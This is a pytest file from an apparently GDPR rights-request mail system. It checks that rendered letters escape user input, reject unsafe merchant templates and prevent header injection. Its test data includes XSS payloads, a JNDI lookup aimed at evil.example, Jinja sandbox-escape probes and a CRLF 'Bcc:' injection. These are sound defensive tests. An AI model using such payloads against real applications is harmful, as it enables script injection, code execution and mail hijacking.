"""Letters as mails: text and HTML say the same, and what a person typed is never more than text (47, 48)."""

import html
import re
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from rightsdesk.domain.errors import MerchantFileError
from rightsdesk.domain.fields import Label
from rightsdesk.domain.letters import Letter, OutgoingMail, Phrase
from rightsdesk.domain.request import Language
from rightsdesk.mail.letters import MerchantLetters
from rightsdesk.mail.samples import sample_values
from tests.support.desk import MERCHANT, ORIGIN, merchant

PRESS = MerchantLetters(MERCHANT, merchant())
CLOSED = {"reference": "RD-28T5-CY4G-M", "name": "Jane Murphy", "link": f"{ORIGIN}/en"}
NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "&lt;b&gt;",
    "Jane</p></body></html>",
    "javascript:alert(1)",
    "https://evil.example/login",
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "%s %(name)s %n",
    "{name} {0.__class__}",
    "{{ self.__init__.__globals__ }}",
    "1234-5678",
    "\u202egnp.exe",
]


class Seen(HTMLParser):
    """What a reader of the HTML sees, its tags, and where it links."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.tags: list[str] = []
        self.links: list[str] = []
        self._in_title = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name in {"href", "src"}:
                self.links.append(value or "")
            assert not name.startswith("on"), name
        self._in_title = tag == "title"

    def handle_endtag(self, tag: str) -> None:
        self._in_title = False
        if tag == "p":
            self.text.append("\n")

    def handle_data(self, data: str) -> None:
        if not self._in_title:
            self.text.append(data)


def seen(mail: OutgoingMail) -> Seen:
    reader = Seen()
    reader.feed(mail.html)
    return reader


def printed(letter: Letter, values: Mapping[str, Any], language: Language = "en") -> OutgoingMail:
    return PRESS.print(letter, language, values, to="jane@example.com")


@pytest.mark.parametrize("name", NASTY)
@pytest.mark.parametrize("language", ["en", "ja"])
def test_a47_a48_a_name_is_text_and_nothing_else(name: str, language: Language) -> None:
    mail = printed(Letter.CLOSED, CLOSED | {"name": name}, language)
    assert name in mail.text
    reader = seen(mail)
    assert name in "".join(reader.text)
    assert set(reader.tags) <= {"html", "head", "meta", "title", "body", "div", "p", "br", "a"}
    assert set(reader.links) == {f"{ORIGIN}/en"}
    assert name not in mail.subject


REFUSED = CLOSED | {
    "received_on": "3 September 2026",
    "ground": Phrase(name="ground.gdpr_12_5"),
    "reason": "The tenth this week.",
    "granted": (Phrase(name="refusal.nothing_granted"),),
    "remedies": Phrase(name="remedies.gdpr_elsewhere"),
}


def test_a47_a_reason_of_staff_is_text_and_keeps_its_paragraphs() -> None:
    values = REFUSED | {"reason": "First <b>point</b>.\n\nSecond & last."}
    mail = printed(Letter.REFUSED, values)
    assert "First <b>point</b>.\n\nSecond & last." in mail.text
    assert "First &lt;b&gt;point&lt;/b&gt;.</p>\n<p>Second &amp; last." in mail.html


def test_links_are_made_of_our_page_and_an_authority_and_of_nothing_else() -> None:
    authority = Phrase(
        name="remedies.gdpr", values={"authority": "DPC", "web": "https://www.dataprotection.ie/?a=1&b=2"}
    )
    values = REFUSED | {
        "reason": "See https://evil.example",
        "remedies": Phrase(name="remedies.both", values={"first": authority, "second": authority}),
    }
    reader = seen(printed(Letter.REFUSED, values))
    assert set(reader.links) == {"https://www.dataprotection.ie/?a=1&b=2"}


def test_a_code_stands_out_in_the_html() -> None:
    values = CLOSED | {"code": "1234-5678", "code_minutes": 10}
    assert re.search(r"<p style=[^>]*font-size[^>]*>1234-5678</p>", printed(Letter.ACCESS_CODE, values).html)


def test_the_html_is_a_whole_page_in_the_language_of_the_reader() -> None:
    for language in ("en", "ja"):
        mail = printed(Letter.CLOSED, CLOSED, language)
        assert mail.html.startswith(f'<!doctype html>\n<html lang="{language}">')
        assert f"<title>{html.escape(mail.subject)}</title>" in mail.html
        assert "http-equiv" not in mail.html
        assert "<img" not in mail.html


def test_a56_no_subject_has_a_line_break() -> None:
    for reference in ("RD\r\nBcc: eve@example.net", "RD\nX", "RD\u2028X", "RD\x85X"):
        mail = printed(Letter.CLOSED, CLOSED | {"reference": reference})
        assert len(mail.subject.splitlines()) == 1


def test_an_unknown_value_is_an_error_and_not_an_empty_place() -> None:
    with pytest.raises(MerchantFileError, match=r"letters/en/closed\.txt: UndefinedError"):
        printed(Letter.CLOSED, {"reference": "RD", "link": ORIGIN})


@pytest.mark.parametrize("language", ["en", "ja"])
def test_an_officer_and_a_representative_are_named_where_they_are_set_and_leave_no_trace_else(
    language: Language,
) -> None:
    unset = printed(Letter.REFUSED, REFUSED, language)
    assert "None" not in unset.text + unset.html
    assert not re.search(r"officer|Representative|責任者|域内", unset.text)
    both = {
        "data_protection_officer": Label(en="Aoi Sato, dpo@shop.example", ja="佐藤葵"),
        "representative_in_the_eu": Label(en="Rep GmbH, Bonn", ja="レップ有限会社（ボン）"),
    }
    press = MerchantLetters(MERCHANT, merchant().model_copy(update=both))
    text = press.print(Letter.REFUSED, language, REFUSED, to="jane@example.com").text
    assert all(label.of(language) in text for label in both.values())


@pytest.mark.parametrize("element", ["ground", "reason", "granted", "remedies", "name"])
@pytest.mark.parametrize("nothing", [None, "", " \n ", ()])
def test_a82_a_refusal_without_what_the_law_wants_is_not_printed(element: str, nothing: object) -> None:
    with pytest.raises(MerchantFileError, match=rf"letters/en/refused\.txt: .*{element}"):
        printed(Letter.REFUSED, REFUSED | {element: nothing})


@pytest.mark.parametrize("line", ["You can go to court.", "Write to {authority}.", "{authority}, {web}: complain."])
def test_a82_a_sentence_that_lost_the_authority_or_the_court_is_not_printed(folder: Path, line: str) -> None:
    (folder / "letters" / "en" / "phrases.yaml").write_text(f"remedies.gdpr: '{line}'\n", "utf-8")
    with pytest.raises(MerchantFileError, match=r"letters/en/phrases\.yaml: remedies\.gdpr must hold"):
        own(folder, {"ground": Phrase(name="remedies.gdpr", values={"authority": "DPC", "web": "https://x.example"})})


@pytest.mark.parametrize("letter", [Letter.RECTIFICATION_ANSWER, Letter.RESTRICTION_ANSWER])
def test_what_staff_wrote_is_text_in_answers_too(letter: Letter) -> None:
    for nasty in NASTY:
        mail = printed(letter, sample_values(letter, "en") | {"done": nasty})
        assert nasty in mail.text
        assert set(seen(mail).tags) <= {"html", "head", "meta", "title", "body", "div", "p", "br", "a"}


# What a merchant may do to their own files


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    letters = tmp_path / "letters" / "en"
    letters.mkdir(parents=True)
    (letters / "closed.txt").write_text(
        "Subject: Hi\n\n{{ ground }}\n{{ name }} {{ reference }} {{ link }} {{ contact }} {{ merchant }}\n", "utf-8"
    )
    (letters / "phrases.yaml").write_text("one: 'It is {what}.'\n", "utf-8")
    return tmp_path


def own(folder: Path, values: Mapping[str, Any]) -> OutgoingMail:
    return MerchantLetters(folder, merchant()).print(
        Letter.CLOSED, "en", CLOSED | {"name": "Jane", **values}, to="jane@x.example"
    )


def test_a_phrase_speaks_of_what_it_is_given(folder: Path) -> None:
    mail = own(folder, {"ground": Phrase(name="one", values={"what": Phrase(name="one", values={"what": "{so}"})})})
    assert mail.text.startswith("It is It is {so}..\nJane ")
    assert mail.subject == "Hi"


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("closed.txt", None),
        ("closed.txt", b"Subject: x\n\n{{ nobody }}"),
        ("closed.txt", b"Subject: x\n\n{% if %}"),
        ("closed.txt", b"Subject: x\n\n{{ name.__class__.__mro__ }}"),
        ("closed.txt", b"Subject: x\n\n{{ ().__class__.__base__.__subclasses__() }}"),
        ("closed.txt", b"Subject: x\n\n{{ name.pop() }}"),
        ("closed.txt", b"Subject: x\n\n{{ name|upper }}"),
        ("closed.txt", b"Subject: x\n\n{{ range(9) }}"),
        ("closed.txt", b"Subject: x\n\n{{ 7*7 }}"),
        ("closed.txt", b"Subject: x\n\n{{ name ~ name }}"),
        ("closed.txt", b"Subject: x\n\n{{ name._value }}"),
        ("closed.txt", b"Subject: x\n\n{{ name[0] }}"),
        ("closed.txt", b"Subject: x\n\n{% if name is defined %}x{% endif %}"),
        ("closed.txt", b"Subject: x\n\n{% include 'refused.txt' %}"),
        ("closed.txt", b"\xff\xfe\xff"),
        ("phrases.yaml", None),
        ("phrases.yaml", b"two: x"),
        ("phrases.yaml", b"one: 'It is {other}.'"),
        ("phrases.yaml", b"one: 'It is {what'"),
        ("phrases.yaml", b"one: '{what.nothing}'"),
        ("phrases.yaml", b"one: '{}'"),
        ("phrases.yaml", b"[]"),
        ("phrases.yaml", b"one: [unclosed"),
    ],
    ids=str,
)
def test_a_wrong_file_of_the_merchant_is_named(folder: Path, file: str, content: bytes | None) -> None:
    path = folder / "letters" / "en" / file
    if content is None:
        path.unlink()
    else:
        path.write_bytes(content)
    with pytest.raises(MerchantFileError, match=r"closed\.txt|phrases\.yaml"):
        own(folder, {"ground": Phrase(name="one", values={"what": "x"})})


def test_the_address_of_a_mail_is_not_the_business_of_a_template() -> None:
    mail = printed(Letter.CLOSED, CLOSED | {"to": "eve@example.net"})
    assert mail.to == "jane@example.com"


def test_phrases_are_yaml_of_plain_sentences() -> None:
    for language in ("en", "ja"):
        phrases = yaml.safe_load((MERCHANT / "letters" / language / "phrases.yaml").read_text("utf-8"))
        assert all(isinstance(sentence, str) and sentence for sentence in phrases.values())
